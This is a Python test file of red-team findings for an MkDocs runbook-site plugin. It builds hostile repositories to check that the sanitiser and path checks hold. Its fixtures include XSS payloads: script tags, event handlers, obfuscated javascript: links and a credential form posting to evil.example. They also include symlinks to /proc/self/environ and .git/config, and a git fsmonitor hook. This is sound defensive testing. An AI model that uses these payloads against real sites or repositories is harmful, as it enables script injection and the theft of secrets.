"""Red-team findings against the docs site (issue 10), each as a real ``mkdocs build`` of a hostile
repository and, where the harm is script running, a real headless Chromium loading the built page.

A runbook is written by whoever opens a pull request: the site must publish only the repository's
own files, and nothing a runbook contains may run script in a reader's browser.
"""

from __future__ import annotations

import datetime as dt
import json
import logging
import os
import re
import textwrap
from pathlib import Path

import pytest
from mkdocs.commands.build import build as mkdocs_build
from mkdocs.config import load_config
from mkdocs.exceptions import Abort

import rbh.checks.mkdocs_plugin as plugin_mod
from rbh.checks.model import CheckResult, Finding, Severity
from rbh.checks.site_render import HtmlPolicy, sanitize_html
from site_support import browser_test as browser_only, chromium, serving

MKDOCS_YML = """\
site_name: Fixture runbooks
site_url: https://runbooks.example.com/
docs_dir: runbooks
site_dir: build/site
theme:
  name: material
  font: false{custom_dir}
plugins:
  - search
  - rbh-health{options}
markdown_extensions:
  - attr_list
  - admonition
  - tables
  - footnotes
  - pymdownx.details
  - pymdownx.superfences
  - pymdownx.highlight
  - pymdownx.tabbed:
      alternate_style: true
  - pymdownx.tasklist
  - toc:
      permalink: true
"""
OVERRIDES = Path(__file__).resolve().parent.parent / "site" / "overrides" / "main.html"
HOSTILE_SCRIPT = textwrap.dedent("""\
    # Hostile runbook

    Looks like a normal runbook.

    <script>window.rbhPwned = "script"; alert("script")</script>

    <img src="missing.png" onerror="window.rbhPwned = 'img'; alert('img')">

    <svg onload="window.rbhPwned = 'svg'"><circle r="1"/></svg>

    <iframe srcdoc="<script>parent.rbhPwned = 'iframe'</script>"></iframe>

    <details open ontoggle="window.rbhPwned = 'details'"><summary>more</summary>hidden</details>

    <object data="javascript:window.rbhPwned = 'object'"></object>

    <div id="__config">{"base": "https://evil.example/", "features": [], "search": "https://evil.example/w.js"}</div>

    <style>.rbh-banner { display: none !important }</style>

    <form action="https://evil.example/"><input type="password" name="p"></form>

    ## Diagnosis

    ```bash
    kubectl -n shop get pods
    ```
    """)
JS_LINKS = textwrap.dedent("""\
    ---
    dashboards: ["javascript:window.rbhPwned='dashboard'"]
    ---
    # Links

    [markdown link](javascript:window.rbhPwned='md')

    [reference link][r]

    <a id="raw" href="javascript:window.rbhPwned='raw'">raw link</a>

    <a id="mixed" href="JaVaScRiPt:window.rbhPwned='mixed'">mixed case</a>

    <a id="tab" href="java&#x09;script:window.rbhPwned='tab'">tab inside</a>

    <a id="entity" href="&#106;avascript:window.rbhPwned='entity'">entity</a>

    <a id="vb" href="vbscript:msgbox(1)">vbscript</a>

    <a id="data" href="data:text/html,<script>alert(1)</script>">data</a>

    [fine](https://example.com/ok) and [relative](other.md)

    [r]: javascript:window.rbhPwned='ref'
    """)


@pytest.fixture
def hostile_repo(make_repo, monkeypatch):
    """Factory: a committed repository with mkdocs.yml and *files*; returns its root."""
    monkeypatch.setenv("SOURCE_DATE_EPOCH", str(int(dt.datetime(2026, 11, 26, 12, tzinfo=dt.timezone.utc).timestamp())))
    monkeypatch.setenv("NO_MKDOCS_2_WARNING", "1")

    def _make(files: dict[str, str | bytes], options: str = "", theme_override: bool = False,
              symlinks: dict[str, str] | None = None) -> Path:
        files = {"runbooks/index.md": "# Fixture runbooks\n\nStart here.\n", **files}
        custom = "\n  custom_dir: site/overrides" if theme_override else ""
        files["mkdocs.yml"] = MKDOCS_YML.format(options=options, custom_dir=custom)
        if theme_override:
            files["site/overrides/main.html"] = OVERRIDES.read_text()
        repo = make_repo(files)
        for link, target in (symlinks or {}).items():
            path = repo.root / link
            path.parent.mkdir(parents=True, exist_ok=True)
            os.symlink(target, path)
        if symlinks:
            repo.commit("symlinks")
        return repo.root

    return _make


def build(root: Path, strict: bool = False) -> Path:
    mkdocs_build(load_config(str(root / "mkdocs.yml"), strict=strict))
    return root / "build" / "site"


def article(site: Path, url: str) -> str:
    html = (site / url / "index.html").read_text(encoding="utf-8")
    return html.split('<article class="md-content__inner md-typeset">', 1)[1].split("</article>", 1)[0]


def stale_engine(path: str):
    """The checks engine pinned to one error finding on *path* (for the title's ``[stale]`` branch)."""
    def run(project):
        f = Finding("RBH101", "unknown-workload", Severity.error, path, 1, 1, "deployment `x` not found")
        return CheckResult(findings=[f], runbooks=project.load_runbooks(), inventory=None, notices=[])
    return run




def assert_no_script_ran(page) -> None:
    assert page.evaluate("() => window.rbhPwned === undefined"), page.evaluate("() => window.rbhPwned")
    assert page.dialogs == []


# ------------------------------------------------------------------------------------------ files


def test_redteam_symlink_outside_repo_not_published(hostile_repo, tmp_path, monkeypatch, caplog):
    """`runbooks/env.md -> /proc/self/environ` put CI secrets into the site and search_index.json."""
    monkeypatch.setenv("RBH_TEST_CI_SECRET", "s3cr3t-do-not-publish")
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "credentials.md").write_text("# Credentials\n\naws_secret_access_key = s3cr3t-folder\n")
    (outside / "leak.txt").write_text("s3cr3t-static\n")
    root = hostile_repo({"runbooks/ok.md": "# Fine\n"}, symlinks={
        "runbooks/env.md": "/proc/self/environ",
        "runbooks/creds.md": str(outside / "credentials.md"),
        "runbooks/leak.txt": str(outside / "leak.txt"),  # a static file, copied as-is by MkDocs
        "runbooks/gitconfig.md": "../.git/config",       # inside the repository, but git's own files
    })
    with caplog.at_level(logging.WARNING):
        site = build(root)
    for src in ("env.md", "creds.md", "leak.txt", "gitconfig.md"):
        assert re.search(rf"{re.escape(src)}: its real path is (outside the repository|inside \.git); not published",
                         caplog.text), src
    published = {p.relative_to(site).as_posix() for p in site.rglob("*") if p.is_file()}
    assert not any(p.startswith(("env/", "creds/", "gitconfig/", "leak.txt")) for p in published), published
    everything = "\n".join(p.read_text(errors="replace") for p in site.rglob("*") if p.is_file() and p.suffix in (".html", ".json", ".xml", ".txt"))
    for secret in ("s3cr3t-do-not-publish", "s3cr3t-folder", "s3cr3t-static", "RBH_TEST_CI_SECRET", "[core]"):
        assert secret not in everything, secret
    index = json.loads((site / "search/search_index.json").read_text())
    assert {d["location"].split("#")[0] for d in index["docs"]} <= {"", "ok/", "health/", "alerts/", "checks/"}
    assert "ok/index.html" in published  # the rest of the site is still there


def test_redteam_symlink_outside_repo_fails_build_with_fail_on_error(hostile_repo, caplog):
    root = hostile_repo({"runbooks/ok.md": "# Fine\n"}, options=":\n      fail_on_error: true",
                        symlinks={"runbooks/env.md": "/proc/self/environ"})
    with pytest.raises(Abort):
        build(root)
    assert "1 docs file outside the repository not published (fail_on_error is on): env.md" in caplog.text
    with pytest.raises(Abort):  # and the warning alone fails a --strict build
        build(hostile_repo({"runbooks/ok.md": "# Fine\n"}, symlinks={"runbooks/env.md": "/proc/self/environ"}), strict=True)


@pytest.mark.parametrize("links, message", [
    ({"runbooks/root": "/"}, "docs folder root links outside the repository"),
    ({"runbooks/creds": "{outside}"}, "docs folder creds links outside the repository"),
    ({"runbooks/loop": "."}, "docs folder loop links back to a folder above it (a loop)"),
    ({"runbooks/a/to-b": "../b", "runbooks/b/to-a": "../a"}, "docs folder a/to-b/to-a links back to a folder above it"),
], ids=["to-root", "to-outside-folder", "self-loop", "two-link-loop"])
def test_redteam_symlinked_folder_fails_fast_instead_of_hanging(hostile_repo, tmp_path, caplog, links, message):
    """MkDocs walks docs_dir following links before any plugin runs: `-> /` walks the machine, two
    looping links walk 2^40 folders, one crashes with ELOOP. The plugin stops the build first."""
    (tmp_path / "outside").mkdir()
    (tmp_path / "outside/secret.md").write_text("# s3cr3t\n")
    root = hostile_repo({"runbooks/ok.md": "# Fine\n", "runbooks/a/.keep": "", "runbooks/b/.keep": ""},
                        symlinks={k: v.format(outside=tmp_path / "outside") for k, v in links.items()})
    with pytest.raises(Abort):
        build(root)
    assert message in caplog.text
    assert not (root / "build/site").exists()  # nothing was published


def test_symlink_inside_the_repository_is_still_published(hostile_repo):
    """Only paths that leave the repository are dropped: a shared page linked into the docs stays."""
    root = hostile_repo({"shared/escalation.md": "# Escalation\n\nCall the incident commander.\n"},
                        symlinks={"runbooks/escalation.md": "../shared/escalation.md"})
    site = build(root, strict=True)
    assert "Call the incident commander." in article(site, "escalation")


def test_redteam_symlinked_theme_file_not_published(hostile_repo, tmp_path):
    """A theme custom_dir in the repository is repository content too: its symlinks out are dropped."""
    (tmp_path / "secret.css").write_text("/* s3cr3t-theme */\n")
    root = hostile_repo({"runbooks/ok.md": "# Fine\n"}, theme_override=True,
                        symlinks={"site/overrides/assets/leak.css": str(tmp_path / "secret.css")})
    site = build(root)
    assert not (site / "assets/leak.css").exists()


# ------------------------------------------------------------------------------------------ script


def test_redteam_raw_script_sanitised_in_html(hostile_repo):
    site = build(hostile_repo({"runbooks/hostile.md": HOSTILE_SCRIPT}))
    html = article(site, "hostile")
    for bad in ("<script", "onerror", "onload", "ontoggle", "<iframe", "srcdoc", "<object", "<style", "<form",
                'id="__config"', 'type="password"', "rbhPwned"):
        assert bad not in html, bad
    # what a runbook legitimately renders to survives: headings with permalinks, code, details
    assert '<h2 id="diagnosis">Diagnosis<a class="headerlink" href="#diagnosis" title="Permanent link">' in html
    assert "kubectl" in html and "<details open" in html
    assert 'class="rbh-banner' in html  # the banner is added after sanitising, with its own markup


@browser_only
def test_redteam_raw_script_sanitised(hostile_repo, tmp_path):
    """Raw <script>, event handlers, srcdoc frames, objects and a clobbered #__config: none runs in Chromium."""
    site = build(hostile_repo({"runbooks/hostile.md": HOSTILE_SCRIPT}))
    with serving(site) as url, chromium(tmp_path / "profile") as new_page:
        page = new_page()
        page.goto(url + "hostile/")
        page.locator("details summary").click()
        assert_no_script_ran(page)
        assert page.locator("aside.rbh-banner").is_visible()  # no runbook CSS hides the health banner
        # Material finds its own config: the runbook's #__config did not clobber it
        assert page.evaluate("() => document.querySelector('#__config').tagName") == "SCRIPT"
        assert page.js_errors == []
        assert [u for u in page.requests if not u.startswith(url)] == []


@browser_only
def test_redteam_javascript_link_removed(hostile_repo, tmp_path):
    site = build(hostile_repo({"runbooks/links.md": JS_LINKS, "runbooks/other.md": "# Other\n"}))
    html = article(site, "links")
    hrefs = re.findall(r'href="([^"]*)"', html)
    assert not [h for h in hrefs if re.sub(r"[\s\x00-\x20]", "", h).lower().startswith(("javascript:", "vbscript:", "data:"))], hrefs
    assert "https://example.com/ok" in hrefs and "../other/" in hrefs  # ordinary links untouched
    assert "<code>javascript:window.rbhPwned=&#x27;dashboard&#x27;</code>" in html  # shown as text, not linked
    with serving(site) as url, chromium(tmp_path / "profile") as new_page:
        page = new_page()
        page.goto(url + "links/")
        for label in ("markdown link", "reference link", "raw link", "mixed case", "tab inside", "entity", "vbscript", "data"):
            page.get_by_text(label, exact=True).click()
            assert page.url == url + "links/", label
        assert_no_script_ran(page)


@pytest.mark.parametrize("theme_override", [True, False], ids=["our-main-html", "stock-material"])
@browser_only
def test_redteam_title_striptags_not_unescaped(hostile_repo, tmp_path, monkeypatch, theme_override):
    """`{{ page.title | striptags }}` unescapes: an escaped `&lt;/title&gt;&lt;script&gt;` became live markup."""
    monkeypatch.setattr(plugin_mod, "_run_engine", stale_engine("runbooks/stale.md"))
    payload = "&lt;/title&gt;&lt;img src=x onerror=\"window.rbhPwned='{}'\"&gt;"
    root = hostile_repo({
        "runbooks/stale.md": f"# Stale {payload.format('h1-stale')}\n\ntext\n",  # [stale] branch of our override
        "runbooks/fresh.md": f"# Fresh {payload.format('h1')}\n\ntext\n",
        "runbooks/front.md": f'---\ntitle: "{payload.format("front").replace(chr(34), chr(92) + chr(34))}"\n---\n# Front\n',
        "runbooks/raw.md": "---\ntitle: \"</title><script>window.rbhPwned='raw'</script>\"\n---\n# Raw\n",
    }, theme_override=theme_override)
    site = build(root)
    with serving(site) as url, chromium(tmp_path / "profile") as new_page:
        page = new_page()
        titles = {}
        for name in ("stale", "fresh", "front", "raw"):
            page.goto(url + f"{name}/")
            assert_no_script_ran(page)
            titles[name] = page.title()
    who = payload.replace("&lt;", "<").replace("&gt;", ">")
    prefix = "[stale] " if theme_override else ""
    assert titles["stale"] == f"{prefix}Stale {who.format('h1-stale')} - Fixture runbooks"
    assert titles["fresh"] == f"Fresh {who.format('h1')} - Fixture runbooks"
    assert titles["front"] == f"{who.format('front')} - Fixture runbooks"
    assert titles["raw"] == "window.rbhPwned='raw' - Fixture runbooks"  # tags stripped, text kept


def test_redteam_title_striptags_not_unescaped_without_the_plugin(hostile_repo):
    """Our main.html is safe on its own (plugin off): striptags' output is escaped again."""
    root = hostile_repo({"runbooks/t.md": "# T &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt;\n"},
                        options=":\n      enabled: false", theme_override=True)
    html = (build(root) / "t/index.html").read_text()
    assert "<title>T &lt;/title&gt;&lt;script&gt;alert(1)&lt;/script&gt; - Fixture runbooks</title>" in html


@browser_only
def test_redteam_nav_and_toc_titles_escaped(hostile_repo, tmp_path):
    """Folder names become nav section titles and attr_list sets toc labels: both were printed as HTML."""
    folder = "runbooks/x<img src=y onerror=\"window.rbhPwned='nav'\">"
    root = hostile_repo({
        f"{folder}/page.md": "# Page in an odd folder\n",
        "runbooks/toc.md": "# Toc\n\n## Section { data-toc-label=\"<img src=z onerror=window.rbhPwned='toc'>\" }\n\ntext\n",
        "runbooks/fm.md": "---\ntitle: \"<img src=q onerror=window.rbhPwned='fm'>Front\"\n---\n# Fm\n",
    })
    site = build(root)
    html = (site / "toc/index.html").read_text()
    assert "<img src=y" not in html and "<img src=z" not in html and "<img src=q" not in html
    with serving(site) as url, chromium(tmp_path / "profile") as new_page:
        page = new_page()
        for path in ("toc/", "fm/", "health/"):
            page.goto(url + path)
            assert_no_script_ran(page)


def test_redteam_source_link_javascript_not_linked(hostile_repo, monkeypatch, caplog):
    monkeypatch.setattr(plugin_mod, "_run_engine", stale_engine("runbooks/stale.md"))
    root = hostile_repo({"runbooks/stale.md": "# Stale\n"}, options=":\n      source_link: \"javascript:alert('{path}')//{line}\"")
    with caplog.at_level(logging.WARNING):
        site = build(root)
    assert "is not an http(s) URL template; finding locations will not be linked" in caplog.text
    html = article(site, "stale")
    assert "javascript:" not in html and '<code class="rbh-loc">runbooks/stale.md:1</code>' in html


def test_source_link_path_is_percent_encoded(hostile_repo, monkeypatch):
    """A file name with quotes or '#' cannot break out of the link or change its target."""
    path = 'runbooks/a"b#c.md'
    monkeypatch.setattr(plugin_mod, "_run_engine", stale_engine(path))
    root = hostile_repo({path: "# Odd name\n"}, options=":\n      source_link: https://git.example/{path}#L{line}")
    html = (build(root) / 'a"b#c/index.html').read_text()
    assert 'href="https://git.example/runbooks/a%22b%23c.md#L1"' in html


# ------------------------------------------------------------------------------------------ allow-list


def test_sanitiser_allow_list_is_extended_from_plugin_config(hostile_repo):
    page = '# Demo\n\n<video src="demo.mp4" controls data-team="sre" onplay="x()"></video>\n\n<a href="rdp://bastion">rdp</a>\n'
    site = build(hostile_repo({"runbooks/demo.md": page}))
    assert "<video" not in article(site, "demo") and "rdp://" not in article(site, "demo")
    root = hostile_repo({"runbooks/demo.md": page}, options=(
        ":\n      allow_tags: [video]\n      allow_attributes: {video: [src, controls], '*': [data-team]}"
        "\n      allow_url_schemes: [rdp]"))
    html = article(build(root), "demo")
    assert '<video src="demo.mp4" controls="" data-team="sre"></video>' in html and 'href="rdp://bastion"' in html


@pytest.mark.parametrize("options, message", [
    ("allow_tags: [script]", "these tags cannot be allowed in runbook HTML: ['script']"),
    ("allow_attributes: {a: [onclick]}", "event handler attributes cannot be allowed in runbook HTML: ['onclick']"),
    ("allow_url_schemes: ['javascript:']", "javascript:, vbscript: and data: URLs cannot be allowed"),
])
def test_allow_list_cannot_reopen_script(hostile_repo, caplog, options, message):
    with pytest.raises(Abort):
        build(hostile_repo({"runbooks/ok.md": "# Ok\n"}, options=f":\n      {options}"))
    assert message in caplog.text


def test_sanitising_can_be_turned_off_for_trusted_repositories(hostile_repo):
    site = build(hostile_repo({"runbooks/demo.md": "# Demo\n\n<video src=\"demo.mp4\"></video>\n"},
                              options=":\n      sanitize: false"))
    assert '<video src="demo.mp4"></video>' in article(site, "demo")


def test_sanitiser_keeps_what_markdown_extensions_render():
    html = textwrap.dedent("""\
        <div class="admonition warning"><p class="admonition-title">Careful</p></div>
        <table><thead><tr><th style="text-align: left;">a</th><th style="text-align: right; position: fixed">b</th></tr></thead></table>
        <div class="tabbed-set tabbed-alternate" data-tabs="1:2"><input checked="checked" id="__tabbed_1_1" name="__tabbed_1" type="radio"><label for="__tabbed_1_1">A</label></div>
        <ul class="task-list"><li class="task-list-item"><label class="task-list-control"><input type="checkbox" disabled checked/><span class="task-list-indicator"></span></label> done</li></ul>
        <sup id="fnref:1"><a class="footnote-ref" href="#fn:1">1</a></sup>
        <div class="highlight"><pre><span></span><code><a id="__codelineno-0-1" name="__codelineno-0-1" href="#__codelineno-0-1"></a><span class="n">x</span></code></pre></div>
        """)
    out = sanitize_html(html, HtmlPolicy().cleaner())
    for kept in ('class="admonition warning"', 'style="text-align:left"', 'style="text-align:right"',
                 'id="__tabbed_1_1"', 'name="__tabbed_1"', 'type="radio"', 'for="__tabbed_1_1"', 'type="checkbox"',
                 'href="#fn:1"', 'id="__codelineno-0-1"'):
        assert kept in out, kept
    assert "position" not in out


# ------------------------------------------------------------------------------------------ alert index


def test_redteam_alert_index_agrees_with_rbh203_on_anchors(make_repo, monkeypatch):
    """The real engine: an anchor RBH203 accepts (GitHub-style, other case) links to its section; one
    RBH203 rejects is shown as broken in the index, not as OK."""
    monkeypatch.setenv("NO_MKDOCS_2_WARNING", "1")
    rules = textwrap.dedent("""\
        groups:
          - name: shop
            rules:
              - alert: CaseAnchor
                expr: up == 0
                annotations: {runbook_url: "https://runbooks.example.com/checkout/#Diagnosis-and-Fix"}
              - alert: GithubAnchor
                expr: up == 0
                annotations: {runbook_url: "https://runbooks.example.com/checkout/#step-1--check-pods"}
              - alert: MissingAnchor
                expr: up == 0
                annotations: {runbook_url: "https://runbooks.example.com/checkout/#no-such-section"}
        """)
    root = make_repo({
        "rbh.yaml": textwrap.dedent("""\
            runbooks: {include: ["runbooks/**/*.md"], exclude: ["runbooks/index.md"]}
            manifests: {include: ["manifests/**/*.yaml"]}
            check: {runbook_urls: {prefixes: {"https://runbooks.example.com/": "runbooks/"}}}
            """),
        "mkdocs.yml": "site_name: R\nsite_url: https://runbooks.example.com/\ndocs_dir: runbooks\nsite_dir: build/site\n"
                      "theme: {name: mkdocs}\nplugins: [search, rbh-health]\n",
        "runbooks/index.md": "# Home\n",
        "runbooks/checkout.md": "# Checkout\n\n## Diagnosis and fix\n\n## Step 1 — check pods\n",
        "manifests/rules.yaml": rules,
    }).root
    from rbh.checks.engine import run_checks
    from rbh.project import load_project

    rbh203 = [f for f in run_checks(load_project(root)).findings if f.rule == "RBH203"]
    assert [f.message for f in rbh203] == [
        "runbook_url of alert `MissingAnchor` points to anchor `#no-such-section`, which `runbooks/checkout.md` does not have"]
    site = build(root)
    index = (site / "alerts/index.html").read_text()
    states = dict(re.findall(r'<tr id="alert-(\w+)" data-rbh-state="([\w-]+)">', index))
    assert states == {"CaseAnchor": "ok", "GithubAnchor": "ok", "MissingAnchor": "broken-url"}
    row = lambda name: index.split(f'id="alert-{name}"', 1)[1].split("</tr>", 1)[0]  # noqa: E731
    assert 'href="../checkout/#diagnosis-and-fix"' in row("CaseAnchor")
    assert 'href="../checkout/#step-1-check-pods"' in row("GithubAnchor")
    assert "#no-such-section" in row("MissingAnchor") and 'href="../checkout/"' in row("MissingAnchor")


def test_redteam_fsmonitor_not_run_by_the_plugin_dirty_check(hostile_repo, tmp_path):
    """`core.fsmonitor` names a program git runs on status/diff: the plugin's "uncommitted changes"
    check must not run it (the trend reads past commits through git objects, which never do)."""
    import git

    marker = tmp_path / "fsmonitor-ran"
    hook = tmp_path / "monitor.sh"
    hook.write_text(f"#!/bin/sh\ntouch {marker}\nexit 1\n")
    hook.chmod(0o755)
    root = hostile_repo({"runbooks/ok.md": "# Fine\n"}, theme_override=True)
    with git.Repo(root).config_writer() as cw:
        cw.set_value("core", "fsmonitor", str(hook))
    (root / "runbooks/ok.md").write_text("# Fine, edited\n")
    site = build(root)
    assert "plus uncommitted changes" in (site / "ok/index.html").read_text()
    assert not marker.exists()


def test_home_page_keeps_the_themes_site_name_title(hostile_repo):
    """Titles are pinned in page.meta to escape them; the home page without one keeps Material's
    site-name-only <title>."""
    html = (build(hostile_repo({"runbooks/ok.md": "# Ok\n"})) / "index.html").read_text()
    assert "<title>Fixture runbooks</title>" in html
